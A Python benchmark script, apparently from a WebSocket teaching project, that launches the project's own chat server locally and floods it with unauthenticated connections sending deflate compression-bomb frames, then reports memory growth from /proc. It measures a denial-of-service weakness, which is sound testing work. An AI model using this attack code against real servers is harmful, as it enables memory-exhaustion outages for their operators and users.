"""Memory of ``python -m wslab chat`` under sockets that never authenticate and send the largest frames.

Starts the runner exactly as a learner does (a child process), then opens ``--sockets`` connections that
complete the handshake offering ``permessage-deflate`` and never send ``auth``. Each one sends one frame
announcing ``--size`` bytes of payload (16 MiB, uvicorn's default ``ws_max_size``):

* if the server accepted compression, the frame is compressed (RSV1): 16 MiB of zeros deflate to about
  16 KB, so the client uploads little and the server inflates a lot (a compression bomb);
* if it did not, the frame is sent uncompressed, as far as the server reads it.

The server's resident memory is read from ``/proc/<pid>/status`` before and after (``VmRSS``) and its peak
(``VmHWM``); the growth is what an unauthenticated client can make the server hold.

    python benchmarks/compression_bomb.py [--sockets 20] [--size 16777216]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import os
import socket
import subprocess
import sys
import time
import zlib
from pathlib import Path

HOST = "127.0.0.1"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind((HOST, 0))
        return int(sock.getsockname()[1])


def memory_kb(pid: int) -> dict[str, int]:
    fields: dict[str, int] = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            fields[key] = int(value.split()[0])
    return fields


def frame(payload: bytes, compressed: bool) -> bytes:
    """One masked text frame (RSV1 set when ``compressed``)."""
    first = 0x81 | (0x40 if compressed else 0)
    n = len(payload)
    if n < 126:
        head = bytes([first, 0x80 | n])
    elif n < 2**16:
        head = bytes([first, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([first, 0x80 | 127]) + n.to_bytes(8, "big")
    key = os.urandom(4)
    masked = bytes(b ^ key[i % 4] for i, b in enumerate(payload)) if n < 2**16 else _mask_large(payload, key)
    return head + key + masked


def _mask_large(payload: bytes, key: bytes) -> bytes:
    repeated = (key * (len(payload) // 4 + 1))[: len(payload)]
    return (int.from_bytes(payload, "big") ^ int.from_bytes(repeated, "big")).to_bytes(len(payload), "big")


async def attacker(port: int, size: int, bomb: bytes) -> tuple[bool, int]:
    """Handshake offering deflate, then one maximal frame; (compression accepted, bytes uploaded)."""
    reader, writer = await asyncio.open_connection(HOST, port)
    key = base64.b64encode(os.urandom(16)).decode()
    writer.write(
        (
            f"GET /ws/chat/lobby HTTP/1.1\r\nHost: {HOST}:{port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n"
        ).encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    accepted = b"permessage-deflate" in head.lower()
    data = frame(bomb, True) if accepted else frame(b"x" * size, False)
    try:
        writer.write(data)
        await asyncio.wait_for(writer.drain(), 5)
    except (OSError, TimeoutError):
        pass
    await asyncio.sleep(1.0)  # hold the socket while the server works on it
    writer.transport.abort()
    return accepted, len(data)


async def main(sockets: int, size: int) -> None:
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "wslab", "chat", "--port", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(200):
            try:
                socket.create_connection((HOST, port), timeout=0.1).close()
                break
            except OSError:
                time.sleep(0.05)
        await asyncio.sleep(0.5)
        before = memory_kb(server.pid)
        compressor = zlib.compressobj(wbits=-15)
        bomb = compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)
        bomb = bomb[:-4]  # permessage-deflate drops the final 00 00 ff ff
        results = await asyncio.gather(*(attacker(port, size, bomb) for _ in range(sockets)))
        await asyncio.sleep(0.5)
        after = memory_kb(server.pid)
    finally:
        server.terminate()
        server.wait(10)
    accepted = sum(1 for ok, _ in results if ok)
    uploaded = sum(n for _, n in results)
    print(f"{sockets} unauthenticated sockets, one frame each announcing {size:,} bytes")
    print(f"compression accepted by the server on {accepted} of {sockets}; uploaded {uploaded / 1e3:,.0f} KB")
    print(f"server RSS before {before['VmRSS'] / 1024:.1f} MB, after {after['VmRSS'] / 1024:.1f} MB")
    print(f"growth: {(after['VmRSS'] - before['VmRSS']) / 1024:.1f} MB (peak {after['VmHWM'] / 1024:.1f} MB)")
    print(f"peak growth: {(after['VmHWM'] - before['VmRSS']) / 1024:.1f} MB")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sockets", type=int, default=20)
    parser.add_argument("--size", type=int, default=16 * 2**20)
    args = parser.parse_args()
    asyncio.run(main(args.sockets, args.size))
